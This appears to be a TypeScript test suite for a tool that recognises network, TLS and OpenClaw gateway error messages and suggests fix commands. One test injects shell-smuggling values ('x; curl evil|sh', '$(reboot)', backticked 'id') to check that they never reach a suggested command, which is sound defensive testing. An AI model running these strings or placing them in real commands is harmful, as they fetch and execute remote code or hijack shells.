import assert from 'node:assert/strict';
import {test} from 'node:test';
import {catalogue} from '../../../source/diagnosis/catalogue/catalogue.js';
import {recognise} from '../../../source/diagnosis/catalogue/recognise.js';

/** The id that counts, the text, and what the title or a command must contain. */
const texts: ReadonlyArray<readonly [id: string, text: string, expected?: RegExp]> = [
	// Node.
	['N04', 'connect ECONNREFUSED 100.69.69.108:18789', /100\.69\.69\.108:18789/],
	[
		'N04',
		'TypeError: fetch failed\n  [cause]: Error: connect ECONNREFUSED 192.168.1.9:18789\n      code: "ECONNREFUSED"',
		/192\.168\.1\.9:18789/,
	],
	['N01', 'Error: connect ECONNREFUSED 127.0.0.1:18789\n    at TCPConnectWrap.afterConnect [as oncomplete]', /127\.0\.0\.1:18789/],
	[
		'N01',
		'AggregateError [ECONNREFUSED]:\n  Error: connect ECONNREFUSED ::1:18789\n  Error: connect ECONNREFUSED 127.0.0.1:18789',
		/18789/,
	],
	['D01', 'getaddrinfo ENOTFOUND gateway.example', /gateway\.example/],
	['D02', 'Error: getaddrinfo EAI_AGAIN gateway.example'],
	['N11', 'connect ETIMEDOUT 192.168.1.9:18789'],
	['N16', 'connect EHOSTUNREACH 192.168.1.9:18789 - Local (192.168.1.4:61234)', /192\.168\.1\.9:18789/],
	['N18', 'connect ENETDOWN 192.168.1.9:18789'],
	['N22', 'Error: read ECONNRESET'],
	['S04', 'TypeError: terminated\n  [cause]: SocketError: other side closed\n    code: "UND_ERR_SOCKET"'],
	['S05', 'BodyTimeoutError: Body Timeout Error\n  code: "UND_ERR_BODY_TIMEOUT"'],
	['L03', "Error: self-signed certificate\n  code: 'DEPTH_ZERO_SELF_SIGNED_CERT'"],
	[
		'L05',
		"Error [ERR_TLS_CERT_ALTNAME_INVALID]: Hostname/IP does not match certificate's altnames: Host: gw. is not in the cert's altnames: DNS:box",
	],
	['L06', 'code: "CERT_HAS_EXPIRED"'],
	['L02', 'write EPROTO 0:error:0A00010B:SSL routines:ssl3_get_record:wrong version number'],
	['X00', 'TypeError: fetch failed'],
	// curl.
	['N01', "curl: (7) Failed to connect to 127.0.0.1 port 18789 after 0 ms: Couldn't connect to server", /127\.0\.0\.1:18789/],
	['N04', 'curl: (7) Failed to connect to 192.168.1.9 port 18789: Connection refused', /192\.168\.1\.9:18789/],
	['N16', 'curl: (7) Failed to connect to 192.168.1.9 port 18789 after 3065 ms: No route to host'],
	['D01', 'curl: (6) Could not resolve host: gateway.example', /gateway\.example/],
	['N11', 'curl: (28) Failed to connect to 192.168.1.9 port 18789 after 5002 ms: Timeout was reached'],
	['N28', 'curl: (28) Operation timed out after 10001 milliseconds with 0 bytes received'],
	['L02', 'curl: (35) TLS connect error: error:0A00010B:SSL routines::wrong version number'],
	['N22', 'curl: (52) Empty reply from server'],
	['N22', 'curl: (56) Recv failure: Connection reset by peer'],
	['L03', 'curl: (60) SSL certificate problem: self-signed certificate'],
	['L04', 'curl: (60) SSL certificate problem: unable to get local issuer certificate'],
	['L05', "curl: (60) SSL: no alternative certificate subject name matches target host name 'gateway'"],
	// Browsers.
	[
		'N01',
		"WebSocket connection to 'ws://127.0.0.1:18789/' failed: Error in connection establishment: net::ERR_CONNECTION_REFUSED",
		/127\.0\.0\.1:18789/,
	],
	['N04', 'GET http://192.168.1.9:18789/ net::ERR_CONNECTION_REFUSED', /192\.168\.1\.9:18789/],
	['D01', 'net::ERR_NAME_NOT_RESOLVED'],
	['L04', 'NET::ERR_CERT_AUTHORITY_INVALID'],
	['L05', 'Error code: SSL_ERROR_BAD_CERT_DOMAIN'],
	['L02', 'Error code: SSL_ERROR_RX_RECORD_TOO_LONG'],
	['C11', 'net::ERR_UNSAFE_PORT'],
	['W10', 'Firefox can’t establish a connection to the server at ws://127.0.0.1:18789/.'],
	['W11', 'Error: Unexpected server response: 404'],
	['A08', "WebSocket connection to 'wss://gateway.example/' failed: Error during WebSocket handshake: Unexpected response code: 401"],
	['H22', 'Error: Unexpected server response: 504'],
	['X00', 'TypeError: Failed to fetch'],
	// Tailscale.
	['N07', 'Tailscale is stopped.'],
	['N07', 'failed to connect to local tailscaled; it doesn’t appear to be running'],
	['N09', 'no matching peer'],
	['N11', 'dial tcp 100.64.0.7:18789: i/o timeout', /100\.64\.0\.7:18789/],
	['O13', 'error: foreground listener already exists for port 443'],
	// ssh.
	['N19', 'channel 2: open failed: connect failed: Connection refused'],
	['N29', 'bind [127.0.0.1]:18789: Address already in use\nchannel_setup_fwd_listener_tcpip: cannot listen to port: 18789', /TCP:18789/],
	// HTTP.
	['A02', 'HTTP/1.1 401 Unauthorized\nContent-Type: application/json\n\n{"error":{"message":"Unauthorized","type":"unauthorized"}}'],
	['A02', '{"error":{"message":"Unauthorized","type":"unauthorized"}}'],
	['H18', '{"error":{"message":"Too many failed authentication attempts. Please try again later.","type":"rate_limited"}}'],
	[
		'H22',
		'<html>\n<head><title>502 Bad Gateway</title></head>\n<center><h1>502 Bad Gateway</h1></center>\n<hr><center>nginx/1.24.0</center>',
	],
	['H22', '<html><head><title>504 Gateway Time-out</title></head><body><center>nginx</center></body></html>'],
	['H08', '403 {"error":{"message":"Proxy client attribution is required.","type":"proxy_attribution_required"}}'],
	[
		'H24',
		'{"error":{"message":"Gateway is temporarily unavailable while suspending or restarting","type":"service_unavailable","code":"gateway_unavailable"}}',
	],
	['H09', 'missing scope: operator.write'],
	['H31', "400 Unknown agent 'nope'."],
	// OpenClaw.
	['W10', 'gateway closed (1006 abnormal closure (no close frame)): no close reason'],
	[
		'N01',
		'gateway closed (1006 abnormal closure (no close frame)): no close reason\nGateway target: ws://127.0.0.1:18789\nError: connect ECONNREFUSED 127.0.0.1:18789',
	],
	['W02', 'gateway closed (1000 normal closure): no close reason'],
	['W02', '[ws] handshake timeout conn=4a1c remote=192.168.1.4'],
	['W20', 'gateway closed (1012 service restart): service restart'],
	['A11', 'gateway disconnected: unauthorized: gateway token mismatch (open the dashboard URL …) | gateway authentication needs attention'],
	[
		'A10',
		'[ws] closed before connect conn=7 remote=192.168.1.4 code=1008 reason=unauthorized: gateway token missing (provide gateway auth token)',
	],
	['A16', 'pairing required: device is not approved yet (requestId: 1b9d6bcd-bbfd-4b2d)', /devices approve 1b9d6bcd-bbfd-4b2d$/],
	[
		'A16',
		'{"code":"NOT_PAIRED","details":{"code":"PAIRING_REQUIRED","requestId":"1b9d6bcd-bbfd-4b2d"}}',
		/devices approve 1b9d6bcd-bbfd-4b2d$/,
	],
	['A18', 'gateway closed (1008): device identity required'],
	['W06', 'protocol mismatch conn=1 min=3 max=3 expected=4'],
	['A17', 'SECURITY ERROR: Gateway URL "ws://10.0.0.5:18789" uses plaintext ws:// to a non-loopback address.'],
	['O03', 'Error: listen EADDRINUSE: address already in use 127.0.0.1:18789', /TCP:18789/],
	['O03', 'Gateway failed to start: gateway already running (pid 4242); lock timeout after 5000ms'],
	['N01', 'Gateway not reachable at ws://127.0.0.1:28777 (ECONNREFUSED).', /127\.0\.0\.1:28777/],
	['E06', 'TIMEOUT: node invoke timed out'],
	['S10', 'upstream provider timeout'],
];

for (const [id, text, expected] of texts) {
	test(`${id}: ${text.split('\n')[0]?.slice(0, 70)}`, () => {
		const [first] = recognise(text);
		assert.equal(first?.diagnosis.id, id, JSON.stringify(recognise(text).map(({diagnosis, line}) => [diagnosis.id, line])));
		const told = [first.diagnosis.title, ...first.diagnosis.fixes.map(({command}) => command ?? '')];
		if (expected)
			assert.ok(
				told.some(one => expected.test(one)),
				told.join('\n'),
			);
	});
}

test('every sample of a text row is recognised as that row', () => {
	for (const entry of catalogue) {
		if (entry.kind !== 'text') continue;
		for (const sample of entry.row.samples) assert.equal(recognise(sample)[0]?.diagnosis.id, entry.id, sample);
	}
});

test('the most telling line of a log counts, and the others are told too', () => {
	const log = [
		'12:00:01 gateway closed (1006 abnormal closure (no close frame)): no close reason',
		'12:00:02 retrying',
		'12:00:03 unauthorized: gateway token mismatch',
		'12:00:04 connect ECONNREFUSED 127.0.0.1:18789',
	].join('\n');
	assert.deepEqual(
		recognise(log).map(({diagnosis}) => diagnosis.id),
		['A11', 'N01', 'W10'],
	);
});

test('of lines that tell as much the last one counts', () => {
	const ids = (text: string) => recognise(text).map(({diagnosis}) => diagnosis.id);
	const [pairing, mismatch] = ['pairing required: device is not approved yet', 'unauthorized: gateway token mismatch'];
	assert.deepEqual(ids(`${pairing}\n${mismatch}`), ['A11', 'A16']);
	assert.deepEqual(ids(`${mismatch}\n${pairing}`), ['A16', 'A11']);
});

test('what is not known is not recognised', () => {
	for (const text of ['', 'hello', 'everything is fine', 'HTTP/1.1 200 OK', 'the port is 18789', 'E', 'ECONN', 'A01 B02']) {
		assert.deepEqual(recognise(text), [], text);
	}
});

test('values of a text get into a command only when they are plain ids, hosts and ports', () => {
	for (const bad of ['x; curl evil|sh', '$(reboot)', '`id`', '-rf', 'a b']) {
		for (const text of [
			`pairing required: device is not approved yet (requestId: ${bad})`,
			`connect ECONNREFUSED ${bad}:18789`,
			`getaddrinfo ENOTFOUND ${bad}`,
			`curl: (7) Failed to connect to ${bad} port 18789: Connection refused`,
			`{"code":"PAIRING_REQUIRED","requestId":"${bad}"}`,
		]) {
			const commands = recognise(text).flatMap(({diagnosis}) => [
				...diagnosis.fixes.map(({command}) => command ?? ''),
				diagnosis.verify ?? '',
			]);
			for (const command of commands) {
				assert.ok(!command.includes(bad), `${text} → ${command}`);
				assert.doesNotMatch(command, /[\n\r`]|\$\(|\bcurl evil|reboot/, text);
			}
		}
	}
	const apart = recognise('pairing required: device is not approved yet (requestId: x; curl evil|sh)')[0]?.diagnosis.fixes ?? [];
	const approval = apart.find(({command}) => command?.includes('devices approve'));
	assert.equal(approval?.command, 'openclaw devices approve REQUEST_ID');
	assert.equal(approval?.shownApart, 'x; curl evil|sh');
});

test('a large or hostile text is answered quickly', () => {
	const started = process.cpuUsage();
	for (const text of [
		'a'.repeat(2_000_000),
		'connect ECONNREFUSED '.repeat(100_000),
		'(((('.repeat(500_000),
		`${'A_'.repeat(100_000)}\n`.repeat(5),
		': '.repeat(500_000),
		'code=1006 reason='.repeat(100_000),
	]) {
		recognise(text);
	}
	assert.ok(process.cpuUsage(started).user < 5_000_000, 'a pattern is too slow');
});
